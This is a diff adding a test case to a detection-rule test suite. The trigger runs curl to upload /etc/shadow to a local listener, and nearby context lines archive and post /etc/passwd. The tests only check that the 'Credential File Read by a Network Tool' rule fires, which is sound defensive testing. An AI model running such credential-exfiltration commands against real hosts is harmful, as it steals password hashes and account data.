@@ -105,6 +105,12 @@ CASES = [
             tar czf "$DET_DIR/etc.tgz" -C / etc/hostname etc/passwd
             timeout 3 curl -s -m 2 -F "f=@$DET_DIR/etc.tgz" "http://127.0.0.1:$DET_PORT/" || true
          ''', where=BOTH, needs=["curl"]),
+    Case(id="c2.exfil.curl_uploads_shadow", tactic="exfiltration", technique="T1048",
+         rules=["Credential File Read by a Network Tool", UPLOAD],
+         trigger=r'''
+            det_listen_tcp 127.0.0.1 "$DET_PORT"
+            timeout 3 curl -s -m 2 -T /etc/shadow "http://127.0.0.1:$DET_PORT/s" || true
+         ''', where=BOTH, needs=["curl"]),
     Case(id="lateral_movement.container_ssh_out", tactic="lateral_movement", technique="T1021.004",
          rules=["SSH or SCP from a Container"],
          trigger=rf'''
